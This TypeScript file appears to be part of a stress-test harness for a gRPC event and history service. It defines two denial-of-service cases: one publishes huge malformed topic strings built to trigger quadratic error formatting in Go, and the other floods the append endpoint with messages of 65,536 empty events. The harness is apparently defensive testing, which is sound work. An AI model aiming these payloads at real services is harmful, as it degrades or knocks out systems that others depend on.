import { AppendRequest } from '../../../protos/gen/foghorn/v1/history.js';
import { PublishRequest } from '../../../protos/gen/containerd/services/events/v1/events.js';
import type { Attack } from '../attack.js';
import { APPEND, PUBLISH, RawClient } from '../raw-client.js';

const EVENTS_PER_MESSAGE = 65_536;
/** Fits into the largest message. */
const LARGEST_TOPIC = 15_000_000;

/** Topics that are refused with an error text. Verbs of Go's formatting made one quadratic. */
const TOPICS: readonly string[] = [
  `/${'%['.repeat(500_000)}`,
  '\x01'.repeat(LARGEST_TOPIC),
  '/'.repeat(LARGEST_TOPIC),
  `/${'"'.repeat(LARGEST_TOPIC)}`,
  `/${'%'.repeat(LARGEST_TOPIC)}`,
];

export const REFUSED_EVENTS: readonly Attack[] = [
  {
    name: 'publishes topics whose error text is long',
    async run({ grpc }, isOver) {
      const client = new RawClient(grpc);
      while (!isOver()) {
        for (const topic of TOPICS) {
          if (isOver()) break;
          await client.call(PUBLISH, PublishRequest.encode({ topic, event: undefined }).finish());
        }
      }
      client.close();
    },
  },
  {
    name: 'appends messages of 65,536 refused events',
    async run({ grpc }, isOver) {
      const nothing = { namespace: '', topic: '', event: undefined, publishId: '' };
      const empty = { event: { $case: 'publish' as const, value: nothing } };
      const events = Array(EVENTS_PER_MESSAGE).fill(empty) as (typeof empty)[];
      const message = AppendRequest.encode({ events }).finish();
      const client = new RawClient(grpc);
      while (!isOver()) await client.call(APPEND, message);
      client.close();
    },
  },
];
